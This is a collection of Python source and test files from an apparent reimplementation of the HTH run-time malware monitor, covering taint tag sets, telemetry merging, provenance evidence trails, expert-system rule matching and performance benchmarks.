    assert only.sources() == frozenset({DataSource.FILE, DataSource.SOCKET})


def test_names_for_sorted():
    ts = union_all(
        [
            TagSet.of(DataSource.FILE, "/z"),
            TagSet.of(DataSource.FILE, "/a"),
            TagSet.of(DataSource.BINARY, "/bin"),
        ]
    )
    assert ts.names_for(DataSource.FILE) == ("/a", "/z")


def test_is_only():
    assert TagSet.of(DataSource.BINARY, "/b").is_only(DataSource.BINARY)
    assert not EMPTY.is_only(DataSource.BINARY)
    mixed = TagSet.of(DataSource.BINARY, "/b").union(
        TagSet.of(DataSource.FILE, "/f")
    )
    assert not mixed.is_only(DataSource.BINARY)


def test_iteration_is_sorted_and_deterministic():
    ts = union_all(
        [
            TagSet.of(DataSource.SOCKET, "b"),
            TagSet.of(DataSource.SOCKET, "a"),
        ]
    )
    assert list(ts) == sorted(ts.tags, key=lambda t: t.sort_key())


def test_or_operator_and_equality_hash():
    a = TagSet.of(DataSource.FILE, "/a")
    b = TagSet.of(DataSource.FILE, "/a")
    assert a == b
    assert hash(a) == hash(b)
    assert (a | TagSet.of(DataSource.BINARY, "/x")).has_source(DataSource.BINARY)
    assert a != "not a tagset"  # __eq__ NotImplemented path


def test_union_all_empty_iterable():
    assert union_all([]) is TagSet.empty()


# -- property-based tests ----------------------------------------------------

_sources = st.sampled_from(list(DataSource))
_names = st.one_of(st.none(), st.text(min_size=1, max_size=8))
_tags = st.builds(Tag, _sources, _names)
_tagsets = st.builds(lambda ts: TagSet(ts), st.frozensets(_tags, max_size=6))


@given(_tagsets, _tagsets)
def test_union_commutative(a, b):
    assert a.union(b) == b.union(a)


@given(_tagsets, _tagsets, _tagsets)
def test_union_associative(a, b, c):
    assert a.union(b).union(c) == a.union(b.union(c))


@given(_tagsets)
def test_union_idempotent(a):
    assert a.union(a) == a


@given(_tagsets)
def test_empty_is_identity(a):
    assert a.union(EMPTY) == a
    assert EMPTY.union(a) == a


@given(_tagsets, _tagsets)
def test_union_is_superset(a, b):
    merged = a.union(b)
    assert a.tags <= merged.tags
    assert b.tags <= merged.tags


@given(_tagsets)
def test_restrict_then_union_of_parts_is_whole(a):
    parts = [a.restrict(src) for src in DataSource]
    assert union_all(parts) == a
