"""Fleet telemetry merging: sample lists, stage profiles, snapshots."""

from repro.telemetry import (
    MetricsRegistry,
    StageProfiler,
    TelemetrySnapshot,
    merge_sample_lists,
    render_samples,
)


def _registry(counter=0, gauge=0.0, observations=()):
    registry = MetricsRegistry()
    if counter:
        registry.counter("work_total", kind="a").inc(counter)
    if gauge:
        registry.gauge("live_pages").set(gauge)
    for value in observations:
        registry.histogram("latency_seconds").observe(value)
    return registry


class TestMergeSampleLists:
    def test_counters_and_gauges_sum(self):
        merged = merge_sample_lists([
            _registry(counter=3, gauge=2.0).samples(),
            _registry(counter=4, gauge=5.0).samples(),
        ])
        by_name = {(s["name"], s["kind"]): s for s in merged}
        assert by_name[("work_total", "counter")]["value"] == 7
        assert by_name[("live_pages", "gauge")]["value"] == 7.0

    def test_histograms_merge_streams(self):
        merged = merge_sample_lists([
            _registry(observations=[0.1, 0.3]).samples(),
            _registry(observations=[0.2]).samples(),
        ])
        (sample,) = merged
        assert sample["count"] == 3
        assert abs(sample["sum"] - 0.6) < 1e-9
        assert sample["min"] == 0.1
        assert sample["max"] == 0.3
        assert abs(sample["mean"] - 0.2) < 1e-9

    def test_label_sets_stay_distinct(self):
        a = MetricsRegistry()
        a.counter("calls", name="open").inc()
        b = MetricsRegistry()
        b.counter("calls", name="close").inc(2)
        merged = merge_sample_lists([a.samples(), b.samples()])
        assert len(merged) == 2

    def test_order_matches_registry_samples(self):
        registry = MetricsRegistry()
        registry.counter("z_total").inc()
        registry.gauge("a_gauge").set(1)
        registry.histogram("m_hist").observe(0.5)
        merged = merge_sample_lists([registry.samples()])
        assert [
            (s["kind"], s["name"]) for s in merged
        ] == [
            (s["kind"], s["name"]) for s in registry.samples()
        ]

    def test_merged_list_renders(self):
        merged = merge_sample_lists([_registry(counter=2).samples()])
        assert "work_total" in render_samples(merged)


class TestProfilerFromDicts:
    def test_profiles_add(self):
        a = StageProfiler()
        a.add("dataflow", 0.2)
        a.add_run(1.0)
        b = StageProfiler()
        b.add("dataflow", 0.3)
        b.add("bbfreq", 0.1)
        b.add_run(2.0)
        merged = StageProfiler.from_dicts([a.to_dict(), b.to_dict()])
        assert merged.runs == 2
        assert abs(merged.total_seconds - 3.0) < 1e-9
        breakdown = merged.breakdown()
        assert abs(breakdown["dataflow"] - 0.5) < 1e-9
        assert abs(breakdown["bbfreq"] - 0.1) < 1e-9

    def test_native_remainder_not_double_counted(self):
        a = StageProfiler()
        a.add("dataflow", 0.25)
        a.add_run(1.0)
        merged = StageProfiler.from_dicts([a.to_dict(), a.to_dict()])
        # native = run wall - attributed stages, recomputed after merge
        assert abs(merged.breakdown()["native"] - 1.5) < 1e-9

    def test_no_profiles_gives_none(self):
        assert StageProfiler.from_dicts([None, None]) is None
        assert StageProfiler.from_dicts([]) is None


class TestSnapshotMerged:
    def _snapshot(self, counter, spans=0):
        registry = _registry(counter=counter)
        return TelemetrySnapshot(
            enabled=True,
            metrics=registry.samples(),
            profile=None,
            span_count=spans,
        )

    def test_roundtrip_from_dict(self):
        snapshot = self._snapshot(5, spans=2)
        assert TelemetrySnapshot.from_dict(snapshot.to_dict()) == snapshot

    def test_merged_sums_everything(self):
        merged = TelemetrySnapshot.merged(
            [self._snapshot(1, spans=2), None, self._snapshot(2, spans=3)]
        )
        assert merged.enabled
        assert merged.span_count == 5
        assert merged.metric_total("work_total") == 3

    def test_merged_empty_is_disabled(self):
        merged = TelemetrySnapshot.merged([])
        assert not merged.enabled
        assert merged.metrics == []
        assert merged.profile is None
