"""Table 1, live: run behavioural analogues of the §2.1 malware examples
and verify that the execution patterns the paper's characterization
claims are actually observed (and warned about) by HTH.

This closes the loop between the paper's motivation (§2) and its system
(§4-§8): the patterns that justify the policy are measurable with it.
"""

from benchmarks.harness import once, render_table, write_result
from repro.programs.scenarios import (
    observe_patterns,
    paper_patterns,
    scenario_workloads,
)


def bench_table1_live_patterns(benchmark):
    def run():
        return [observe_patterns(w) for w in scenario_workloads()]

    observations = once(benchmark, run)
    paper = paper_patterns()

    def mark(flag):
        return "X" if flag else ""

    rows = []
    mismatches = []
    for obs in observations:
        claim = paper[obs.name]
        match = (
            obs.remotely_directed == claim.remotely_directed
            and obs.hardcoded_resources == claim.hardcoded_resources
            and obs.degrading_performance == claim.degrading_performance
            and obs.verdict == claim.verdict
        )
        if not match:
            mismatches.append(obs.name)
        rows.append(
            (
                obs.name,
                mark(obs.remotely_directed),
                mark(obs.hardcoded_resources),
                mark(obs.degrading_performance),
                obs.verdict.value,
                "yes" if match else "NO",
            )
        )
    text = render_table(
        "Table 1 (live): execution patterns observed by HTH on runnable "
        "analogues",
        ("Exploit", "Remotely directed", "Hard-coded resources",
         "Degrading performance", "HTH verdict", "matches paper"),
        rows,
    )
    write_result("table1_live_patterns.txt", text)
    print("\n" + text)
    assert not mismatches, mismatches
