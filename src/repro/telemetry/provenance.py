"""Taint-provenance evidence trails (explainable detections).

The paper's pitch for an expert-system backend is that "an expert system
can give the user all of the information that was used to reach its
conclusion" (section 6.2.1).  :class:`ProvenanceRecorder` makes that
concrete for every Secpert warning by capturing the full causal chain:

* **sources** — which syscall/input event first introduced each taint
  token (tick, pid, resource, introducing call);
* **waypoints** — the data-transfer events that carried each token
  across resource boundaries (the observable flow of the tainted bytes);
* **sink** — the event / CLIPS fact assertion that consumed the tainted
  value and triggered the analysis;
* **derivation** — the fact→rule production chain inside
  :mod:`repro.expert.engine` that actually fired.

The resulting ``evidence`` object is attached to each
:class:`~repro.secpert.warnings.SecurityWarning`, serialized in report
schema v2, and streamed live by the serve daemon.

Determinism contract: evidence is built *only* from the Harrier event
stream and the engine fire trace — both of which are bit-identical
across the block cache / fastpath execution modes (proven by the
62-workload differential suite) — so trails are identical no matter how
the guest was executed, serially or sharded.  The block-level
``TaintSummary`` observations (:meth:`ProvenanceRecorder.observe_block`)
are an execution-mode *diagnostic* and surface exclusively through
``provenance_*`` metrics, never inside evidence.

Boundedness contract: the recorder tracks at most :data:`MAX_TOKENS`
distinct taint tokens and keeps the *first* :data:`MAX_TRAIL` waypoints
per token (first-introduction-wins, like the source table), counting
everything it sheds — memory stays O(1) per run regardless of guest
behaviour, and "keep the earliest" is deterministic where an LRU would
not be.
"""

from __future__ import annotations

from typing import Dict, List, Optional

#: Version stamp carried inside every evidence object (and the report's
#: ``provenance`` summary) so downstream consumers can detect shape
#: changes independently of the run-report schema.
EVIDENCE_SCHEMA_VERSION = 1

#: Hard cap on distinct taint tokens tracked per run.
MAX_TOKENS = 4096

#: Hard cap on waypoints kept per token (earliest kept, rest counted).
MAX_TRAIL = 16


def _resource_name(resource) -> str:
    """A stable printable name for an event's resource field."""
    if resource is None:
        return ""
    return str(resource)


class ProvenanceRecorder:
    """Bounded, deterministic per-run evidence recorder.

    One recorder lives on each :class:`~repro.harrier.monitor.Harrier`
    (when :class:`~repro.harrier.config.HarrierConfig` ``.provenance``
    is on).  Harrier feeds it taint introductions and the event log;
    Secpert calls :meth:`evidence_for` while stamping warnings.
    """

    def __init__(
        self,
        max_tokens: int = MAX_TOKENS,
        max_trail: int = MAX_TRAIL,
    ) -> None:
        self.max_tokens = max_tokens
        self.max_trail = max_trail
        #: token (str(tag)) -> first-introduction source record.
        self.sources: Dict[str, Dict[str, object]] = {}
        #: token -> earliest waypoint records (bounded by ``max_trail``).
        self.trails: Dict[str, List[Dict[str, object]]] = {}
        #: Introductions shed because the token table was full.
        self.source_drops = 0
        #: Waypoints shed because a token's trail was full.
        self.trail_drops = 0
        #: Events inspected by :meth:`observe_event`.
        self.events_observed = 0
        #: Evidence objects built by :meth:`evidence_for`.
        self.evidence_built = 0
        # Block-mode diagnostics (metrics only — never part of evidence,
        # because the interpreter path has no blocks to observe).
        self.blocks_observed = 0
        self.block_tokens = 0
        self._seen_plans: set = set()

    # -- recording -----------------------------------------------------------
    def record_source(
        self,
        tags,
        *,
        pid: int,
        tick: int,
        resource: str,
        via: str,
    ) -> None:
        """Record where taint tokens entered the system.

        First introduction wins: re-reading the same file later does not
        rewrite the token's origin.  ``tags`` is any iterable of
        :class:`~repro.taint.tags.Tag` (a ``TagSet`` iterates sorted).
        """
        sources = self.sources
        for tag in tags:
            token = str(tag)
            if token in sources:
                continue
            if len(sources) >= self.max_tokens:
                self.source_drops += 1
                continue
            sources[token] = {
                "token": token,
                "kind": "input",
                "via": via,
                "pid": pid,
                "tick": tick,
                "resource": resource,
            }

    def observe_event(self, event) -> None:
        """Fold one Harrier security event into the waypoint trails.

        Data-transfer events carry tainted bytes across a resource
        boundary; resource-access events carry taint in the resource
        *identifier*.  Both become per-token waypoints.  Event streams
        are identical across execution modes, so trails are too.
        """
        self.events_observed += 1
        data_tags = getattr(event, "data_tags", None)
        if data_tags:
            self._trail(
                data_tags,
                event,
                direction=getattr(event, "direction", "write"),
            )
        origin = getattr(event, "origin", None)
        if origin:
            self._trail(origin, event, direction="identifier")

    def _trail(self, tags, event, *, direction: str) -> None:
        waypoint = {
            "tick": event.time,
            "pid": event.pid,
            "call": event.call_name,
            "direction": direction,
            "resource": _resource_name(getattr(event, "resource", None)),
            "address": event.address,
        }
        trails = self.trails
        limit = self.max_trail
        for tag in tags:
            token = str(tag)
            trail = trails.get(token)
            if trail is None:
                if len(trails) >= self.max_tokens:
                    self.trail_drops += 1
                    continue
                trails[token] = [waypoint]
            elif len(trail) < limit:
                trail.append(waypoint)
            else:
                self.trail_drops += 1

    def observe_block(self, plan) -> None:
        """Count taint-carrying translated blocks (fastpath diagnostic).

        Called from the block-cache fast path only; dedups per plan so
        hot loops cost one set probe.  Feeds ``provenance_*`` gauges —
        deliberately *not* evidence, which must be mode-independent.
        """
        seen = self._seen_plans
        if plan in seen:
            return
        seen.add(plan)
        summary = getattr(plan, "taint_summary", None)
        if summary is None or summary.is_noop:
            return
        self.blocks_observed += 1
        self.block_tokens += len(summary.live_in) + len(summary.touch_holes)

    # -- evidence ------------------------------------------------------------
    def evidence_for(
        self, warning, event, fact, fired, rule_docs=None
    ) -> Dict[str, object]:
        """Build the evidence object for one freshly fired warning.

        ``event`` is the triggering Harrier event, ``fact`` the CLIPS
        fact Secpert asserted for it, ``fired`` the slice of the
        engine's fire trace produced while that fact was in working
        memory, and ``rule_docs`` an optional rule-name → docstring map
        for the derivation chain.  Everything in the result is a JSON
        primitive, so wire round-trips (serve NDJSON, fleet pickles)
        are identity.
        """
        self.evidence_built += 1
        tokens = _event_tokens(event)
        sources = []
        for token in tokens:
            record = self.sources.get(token)
            if record is None:
                # The token predates the recorder (or the table was
                # full): synthesize an inferred origin so the trail is
                # never source-less.
                record = {
                    "token": token,
                    "kind": "inferred",
                    "via": "unrecorded",
                    "pid": event.pid,
                    "tick": event.time,
                    "resource": _resource_name(
                        getattr(event, "resource", None)
                    ),
                }
            sources.append(dict(record))
        if not sources:
            # Tag-less warnings (process/memory abuse, hardcoded-name
            # accesses with empty origins) are evidenced by the
            # triggering event itself.
            sources.append({
                "token": "",
                "kind": "event",
                "via": event.call_name,
                "pid": event.pid,
                "tick": event.time,
                "resource": _resource_name(getattr(event, "resource", None)),
            })
        waypoints = []
        for token in tokens:
            for record in self.trails.get(token, ()):
                waypoints.append(dict(record, token=token))
        sink = {
            "call": event.call_name,
            "pid": event.pid,
            "tick": event.time,
            "address": event.address,
            "resource": _resource_name(getattr(event, "resource", None)),
            "fact": _render_fact(fact),
        }
        docs = rule_docs or {}
        derivation = [
            {
                "rule": f.rule_name,
                "facts": [f"f-{i}" for i in f.fact_ids],
                "doc": docs.get(f.rule_name, ""),
            }
            for f in fired
        ]
        return {
            "schema_version": EVIDENCE_SCHEMA_VERSION,
            "rule": warning.rule,
            "sources": sources,
            "waypoints": waypoints,
            "sink": sink,
            "derivation": derivation,
        }

    # -- summaries -----------------------------------------------------------
    def summary(self) -> Dict[str, object]:
        """Mode-independent run-level counts for the report (schema v2).

        Deliberately excludes the block-observation diagnostics, which
        differ between the interpreter and block-cache modes.
        """
        return {
            "schema_version": EVIDENCE_SCHEMA_VERSION,
            "enabled": True,
            "sources": len(self.sources),
            "tokens_trailed": len(self.trails),
            "waypoints": sum(len(t) for t in self.trails.values()),
            "evidence": self.evidence_built,
            "source_drops": self.source_drops,
            "trail_drops": self.trail_drops,
        }

    def sample_gauges(self, registry) -> None:
        """Write the recorder's state into ``provenance_*`` gauges."""
        registry.gauge("provenance_sources").set(len(self.sources))
        registry.gauge("provenance_tokens_trailed").set(len(self.trails))
        registry.gauge("provenance_waypoints").set(
            sum(len(t) for t in self.trails.values())
        )
        registry.gauge("provenance_evidence_built").set(self.evidence_built)
        registry.gauge("provenance_trail_drops").set(self.trail_drops)
        registry.gauge("provenance_blocks_observed").set(self.blocks_observed)
        registry.gauge("provenance_block_tokens").set(self.block_tokens)


def _event_tokens(event) -> List[str]:
    """Sorted distinct taint tokens the triggering event carried."""
    tokens = set()
    for attr in ("data_tags", "origin", "resource_origin",
                 "server_socket_origin", "source_server_origin"):
        tags = getattr(event, attr, None)
        if tags:
            tokens.update(str(t) for t in tags)
    for pair in getattr(event, "source_origins", ()) or ():
        tag, origin = pair
        tokens.add(str(tag))
        tokens.update(str(t) for t in origin)
    return sorted(tokens)


def _render_fact(fact) -> str:
    if fact is None:
        return ""
    from repro.expert.clips_format import render_fact

    return render_fact(fact)


def render_evidence(evidence: Optional[Dict[str, object]]) -> str:
    """One warning's evidence as a human-readable trail (``repro
    explain``)."""
    if not evidence:
        return "  (no evidence recorded)"
    lines = []
    for source in evidence.get("sources", ()):
        token = source.get("token") or "(untainted)"
        lines.append(
            f"  source   {token} <- {source.get('via', '?')}"
            f" {source.get('resource') or ''}".rstrip()
            + f"  [tick {source.get('tick')}, pid {source.get('pid')}]"
        )
    for wp in evidence.get("waypoints", ()):
        lines.append(
            f"  waypoint {wp.get('token')} {wp.get('direction')}"
            f" via {wp.get('call')} {wp.get('resource') or ''}".rstrip()
            + f"  [tick {wp.get('tick')}, pid {wp.get('pid')}]"
        )
    sink = evidence.get("sink") or {}
    lines.append(
        f"  sink     {sink.get('call')} {sink.get('resource') or ''}".rstrip()
        + f"  [tick {sink.get('tick')}, pid {sink.get('pid')}"
        + f" @ {sink.get('address')}]"
    )
    for step in evidence.get("derivation", ()):
        facts = ",".join(step.get("facts", ()))
        line = f"  fired    {step.get('rule')}: {facts}"
        lines.append(line)
        if step.get("doc"):
            lines.append(f"           ; {step['doc']}")
    return "\n".join(lines)
