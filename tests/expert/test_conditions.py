"""Pattern / variable / test / negation matching tests."""

import pytest

from repro.expert import Not, P, Pattern, Template, Test, V, match_lhs


@pytest.fixture
def access():
    return Template.define("access", "call", "resource", "severity")


def facts_of(template, *value_dicts):
    out = []
    for i, values in enumerate(value_dicts, start=1):
        fact = template.make(**values)
        fact.fact_id = i
        fact.recency = i
        out.append(fact)
    return out


class TestPatternMatch:
    def test_literal_match(self, access):
        fact = access.make(call="open", resource="/a", severity=1)
        pattern = Pattern("access", call="open")
        assert pattern.match(fact, {}) == {}

    def test_literal_mismatch(self, access):
        fact = access.make(call="open", resource="/a", severity=1)
        assert Pattern("access", call="read").match(fact, {}) is None

    def test_wrong_template(self, access):
        other = Template.define("other", "x")
        fact = other.make(x=1)
        assert Pattern("access", call="open").match(fact, {}) is None

    def test_unknown_slot_never_matches(self, access):
        fact = access.make(call="open")
        assert Pattern("access", ghost=1).match(fact, {}) is None

    def test_variable_binds(self, access):
        fact = access.make(call="open", resource="/a")
        result = Pattern("access", resource=V("r")).match(fact, {})
        assert result == {"r": "/a"}

    def test_bound_variable_must_agree(self, access):
        fact = access.make(call="open", resource="/a")
        pattern = Pattern("access", resource=V("r"))
        assert pattern.match(fact, {"r": "/a"}) == {"r": "/a"}
        assert pattern.match(fact, {"r": "/b"}) is None

    def test_predicate_one_arg(self, access):
        fact = access.make(call="open", severity=3)
        pattern = Pattern("access", severity=P(lambda v: v > 2))
        assert pattern.match(fact, {}) is not None

    def test_predicate_with_bindings(self, access):
        fact = access.make(call="open", severity=3)
        pattern = Pattern(
            "access", severity=P(lambda v, b: v > b["floor"])
        )
        assert pattern.match(fact, {"floor": 2}) is not None
        assert pattern.match(fact, {"floor": 5}) is None

    def test_predicate_error_is_not_swallowed(self, access):
        # A TypeError raised *inside* a two-arg predicate used to be
        # mistaken for an arity mismatch and silently retried with one
        # arg; arity is now resolved from the signature up front.
        fact = access.make(call="open", severity=3)
        pattern = Pattern(
            "access", severity=P(lambda v, b: v > b["floor"] + None)
        )
        with pytest.raises(TypeError):
            pattern.match(fact, {"floor": 2})

    def test_predicate_builtin_without_signature(self, access):
        # Some C callables expose no signature; the legacy probe still
        # resolves them (bool is value-only).
        fact = access.make(call="open", severity=3)
        assert Pattern("access", severity=P(bool)).match(fact, {}) is not None
        fact0 = access.make(call="open", severity=0)
        assert Pattern("access", severity=P(bool)).match(fact0, {}) is None

    def test_predicate_varargs_gets_both(self, access):
        seen = []

        def predicate(*args):
            seen.append(len(args))
            return True

        fact = access.make(call="open", severity=3)
        result = Pattern("access", severity=P(predicate)).match(fact, {})
        assert result is not None
        assert seen == [2]

    def test_bind_as_exposes_fact(self, access):
        fact = access.make(call="open")
        result = Pattern("access", bind_as="f").match(fact, {})
        assert result["f"] is fact

    def test_original_bindings_not_mutated(self, access):
        fact = access.make(call="open", resource="/a")
        original = {}
        Pattern("access", resource=V("r")).match(fact, original)
        assert original == {}


class TestMatchLhs:
    def test_single_pattern_all_matches(self, access):
        facts = facts_of(
            access,
            {"call": "open", "resource": "/a"},
            {"call": "open", "resource": "/b"},
            {"call": "read", "resource": "/c"},
        )
        results = match_lhs([Pattern("access", call="open",
                                     resource=V("r"))], facts)
        assert {r["bindings"]["r"] for r in results} == {"/a", "/b"}

    def test_join_on_shared_variable(self, access):
        facts = facts_of(
            access,
            {"call": "open", "resource": "/a"},
            {"call": "write", "resource": "/a"},
            {"call": "write", "resource": "/b"},
        )
        lhs = [
            Pattern("access", call="open", resource=V("r")),
            Pattern("access", call="write", resource=V("r")),
        ]
        results = match_lhs(lhs, facts)
        assert len(results) == 1
        assert results[0]["bindings"]["r"] == "/a"
        assert [f["call"] for f in results[0]["facts"]] == ["open", "write"]

    def test_test_element_filters(self, access):
        facts = facts_of(
            access,
            {"call": "open", "severity": 1},
            {"call": "open", "severity": 5},
        )
        lhs = [
            Pattern("access", severity=V("s")),
            Test(lambda b: b["s"] > 3),
        ]
        results = match_lhs(lhs, facts)
        assert len(results) == 1
        assert results[0]["bindings"]["s"] == 5

    def test_not_element(self, access):
        facts = facts_of(access, {"call": "open", "resource": "/a"})
        lhs = [
            Pattern("access", resource=V("r")),
            Not(Pattern("access", call="write", resource=V("r"))),
        ]
        assert len(match_lhs(lhs, facts)) == 1
        facts2 = facts_of(
            access,
            {"call": "open", "resource": "/a"},
            {"call": "write", "resource": "/a"},
        )
        # "open /a" now has a matching write -> blocked; but the write fact
        # itself (as the first pattern) has a write too -> also blocked.
        assert match_lhs(lhs, facts2) == []

    def test_bad_element_type_raises(self, access):
        with pytest.raises(TypeError):
            match_lhs(["nonsense"], [])

    def test_empty_lhs_matches_once(self, access):
        assert len(match_lhs([], [])) == 1
