"""Harrier: the run-time monitoring half of HTH (paper section 7).

Public surface: the :class:`Harrier` monitor (a :class:`KernelHooks`
implementation), its configuration, the event types it emits, and the
analyzer interface the policy side implements.
"""

from repro.harrier.analyzer import (
    CollectingAnalyzer,
    DecisionPolicy,
    EventAnalyzer,
    always_continue,
    always_kill,
)
from repro.harrier.bbfreq import CodeExecutionPatterns
from repro.harrier.blockcache import BlockCache
from repro.harrier.config import DEFAULT_TRUSTED_IMAGES, HarrierConfig
from repro.harrier.content import sniff_content
from repro.harrier.dataflow import InstructionDataFlow
from repro.harrier.events import (
    DataTransferEvent,
    MemoryEvent,
    ProcessEvent,
    ResourceAccessEvent,
    ResourceId,
    SecurityEvent,
)
from repro.harrier.monitor import Harrier
from repro.harrier.routines import RoutineShortCircuit
from repro.harrier.state import ProcessShadow, ShortCircuitFrame
from repro.harrier.syscall_events import SyscallEventGenerator

__all__ = [
    "Harrier",
    "HarrierConfig",
    "DEFAULT_TRUSTED_IMAGES",
    "EventAnalyzer",
    "CollectingAnalyzer",
    "DecisionPolicy",
    "always_continue",
    "always_kill",
    "SecurityEvent",
    "ResourceAccessEvent",
    "DataTransferEvent",
    "MemoryEvent",
    "ProcessEvent",
    "ResourceId",
    "ProcessShadow",
    "ShortCircuitFrame",
    "InstructionDataFlow",
    "CodeExecutionPatterns",
    "BlockCache",
    "RoutineShortCircuit",
    "SyscallEventGenerator",
    "sniff_content",
]
