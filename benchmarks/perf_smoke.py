"""Perf smoke check: the block cache must not be slower than the
interpreter, and the zero-taint fast path must actually pay off.

Runs the Section 9 workload under the full monitor and fails (exit 1)
when either property breaks:

* the cached path is slower than the per-instruction interpreter
  beyond a small noise margin;
* the dataflow fast path is not at least :data:`FASTPATH_SPEEDUP`
  faster than per-transfer template replay — or the two modes disagree
  on retired instructions or emitted warnings (they must be
  observationally identical; the exhaustive bit-identical check over
  all workloads lives in tests/harrier/test_blockcache_differential.py);
* a 4-worker fleet over the full 62-workload sweep is not bit-identical
  to the serial sweep, or (on hosts with >= :data:`FLEET_WORKERS` CPUs)
  not at least :data:`FLEET_SPEEDUP` faster;
* the provenance evidence recorder costs more than
  :data:`PROVENANCE_OVERHEAD` over a provenance-off run, or turning it
  off changes retired instructions or warnings (modulo the ``evidence``
  payload itself);
* a warm verdict-cache hit on the Section 9 workload is not at least
  :data:`VERDICT_CACHE_SPEEDUP` times faster than executing it, is not
  bit-identical to the executed report, or the ``cache_*`` counter
  families are missing from the OpenMetrics exposition;
* the Rete engine is not at least :data:`RULE_ENGINE_SPEEDUP` faster
  than the naive full-rejoin matcher on the retained event stream, the
  two engines disagree on hits/fire-trace/agenda (the exhaustive
  differential lives in tests/secpert/test_rete_differential.py), or
  rete per-event match cost at 10k retained facts exceeds
  :data:`RULE_ENGINE_FLAT_RATIO` times its 100-fact cost (incremental
  matching must stay flat as working memory grows).

Designed for CI::

    PYTHONPATH=src python -m benchmarks.perf_smoke
    PYTHONPATH=src python -m benchmarks.perf_smoke verdict_cache  # one check

Prints the measured times and the speedups either way.  This is a smoke
test, not a benchmark — the real numbers live in
``benchmarks/results/BENCH_performance.json`` (bench_performance.py).
"""

from __future__ import annotations

import json
import os
import re
import sys
import time

from benchmarks.bench_performance import run_workload
from repro.fleet import run_fleet, workload_refs

#: Paired runs per engine (interleaved to cancel thermal/load drift).
REPS = 5

#: The cached path must be at least this fraction of interpreter speed.
#: 1.0 would assert "never slower at all", which is noise-prone on shared
#: CI runners; the real speedup target (>=1.25x) is asserted in the full
#: benchmark suite where reps are longer.
NOISE_MARGIN = 1.05

#: The dataflow fast path must beat per-transfer template replay by at
#: least this factor on the Section 9 workload (measured ~1.4x).
FASTPATH_SPEEDUP = 1.3

#: Fleet gate: workers used, required speedup over the serial sweep, and
#: how many times the 62-workload table is repeated so process spawn and
#: queue overhead amortize into the measurement.
FLEET_WORKERS = 4
FLEET_SPEEDUP = 2.0
FLEET_REPS = 3

#: The evidence recorder rides the existing event stream, so a
#: provenance-on run may cost at most this factor over provenance-off.
PROVENANCE_OVERHEAD = 1.5

#: A warm verdict-cache hit (p50 over many lookups) must beat fresh
#: execution of the Section 9 workload by at least this factor — a hit
#: is one digest + one memory-LRU unpickle, execution is millions of
#: monitored guest ticks.
VERDICT_CACHE_SPEEDUP = 50.0
#: Hit-latency sample count for the p50 (cheap: no execution).
CACHE_HIT_SAMPLES = 25

#: The Rete engine must beat the naive full-rejoin matcher by at least
#: this factor on the retained event stream (measured >100x at 120
#: events — the gap widens with stream length, so the gate is modest).
RULE_ENGINE_SPEEDUP = 3.0
#: Retained events for the rule-engine stream gate (naive is quadratic
#: in this, keep it small enough to finish in seconds).
RULE_ENGINE_STREAM = 120
#: Rete per-event probe cost at the largest WM size may be at most this
#: factor over the smallest — "flat within noise" across 100x growth
#: (measured ~1.4x; the naive engine measures >400x on the same curve).
RULE_ENGINE_FLAT_RATIO = 3.0
#: Interleaved reps for the stream timing (naive is the slow side).
RULE_ENGINE_REPS = 3


def measure(name_a: str, name_b: str) -> tuple:
    """Interleaved best-of-REPS wall time for two configurations.

    Best-of (not mean-of) so one scheduler hiccup on a shared runner
    cannot fail the gate.
    """
    best_a = float("inf")
    best_b = float("inf")
    # warm-up: first run pays import + assemble + translation costs
    run_workload(name_a)
    run_workload(name_b)
    for _ in range(REPS):
        start = time.perf_counter()
        run_workload(name_a)
        best_a = min(best_a, time.perf_counter() - start)
        start = time.perf_counter()
        run_workload(name_b)
        best_b = min(best_b, time.perf_counter() - start)
    return best_a, best_b


def check_block_cache() -> int:
    cached, interp = measure("harrier-full", "harrier-full-interp")
    speedup = interp / cached if cached else float("inf")
    print(
        f"perf smoke: cached={cached * 1000:.2f} ms "
        f"interp={interp * 1000:.2f} ms "
        f"speedup={speedup:.2f}x"
    )
    if cached > interp * NOISE_MARGIN:
        print(
            "FAIL: block-cache execution is slower than the "
            f"per-instruction interpreter (margin {NOISE_MARGIN}x)",
            file=sys.stderr,
        )
        return 1
    print("ok: block-cache execution is not slower than interpretation")
    return 0


def check_fastpath() -> int:
    # Equivalence first: same retired instructions, same warnings.
    fast_report = run_workload("harrier-fastpath")
    slow_report = run_workload("harrier-fastpath-off")
    if fast_report.result.instructions != slow_report.result.instructions:
        print(
            "FAIL: fast path retired "
            f"{fast_report.result.instructions} instructions, slow path "
            f"{slow_report.result.instructions}",
            file=sys.stderr,
        )
        return 1
    fast_warnings = sorted(repr(w) for w in fast_report.warnings)
    slow_warnings = sorted(repr(w) for w in slow_report.warnings)
    if fast_warnings != slow_warnings:
        print(
            "FAIL: fast path and slow path emitted different warnings:\n"
            f"  fast: {fast_warnings}\n  slow: {slow_warnings}",
            file=sys.stderr,
        )
        return 1
    fast, slow = measure("harrier-fastpath", "harrier-fastpath-off")
    speedup = slow / fast if fast else float("inf")
    print(
        f"perf smoke: fastpath={fast * 1000:.2f} ms "
        f"slowpath={slow * 1000:.2f} ms "
        f"speedup={speedup:.2f}x"
    )
    if speedup < FASTPATH_SPEEDUP:
        print(
            "FAIL: dataflow fast path speedup "
            f"{speedup:.2f}x is below the {FASTPATH_SPEEDUP}x gate",
            file=sys.stderr,
        )
        return 1
    print(
        "ok: dataflow fast path beats template replay "
        f"(>= {FASTPATH_SPEEDUP}x) with identical observable behaviour"
    )
    return 0


def check_fleet() -> int:
    """Sharded == serial bit-for-bit; >= FLEET_SPEEDUP on real cores."""
    refs = workload_refs() * FLEET_REPS
    serial = run_fleet(refs, workers=1)
    fleet = run_fleet(refs, workers=FLEET_WORKERS)
    for report in (serial, fleet):
        if report.failures:
            print(
                "FAIL: fleet sweep had failing runs: "
                f"{[r.name for r in report.failures]}",
                file=sys.stderr,
            )
            return 1
    if json.dumps(serial.reports, sort_keys=True, default=str) != (
        json.dumps(fleet.reports, sort_keys=True, default=str)
    ):
        print(
            "FAIL: sharded fleet reports are not bit-identical to the "
            "serial sweep",
            file=sys.stderr,
        )
        return 1
    speedup = (
        serial.wall_seconds / fleet.wall_seconds
        if fleet.wall_seconds else float("inf")
    )
    print(
        f"perf smoke: fleet serial={serial.wall_seconds * 1000:.0f} ms "
        f"{FLEET_WORKERS} workers={fleet.wall_seconds * 1000:.0f} ms "
        f"speedup={speedup:.2f}x ({len(refs)} runs, bit-identical)"
    )
    cpus = os.cpu_count() or 1
    if cpus < FLEET_WORKERS:
        print(
            f"note: host has {cpus} CPU(s) < {FLEET_WORKERS} workers; "
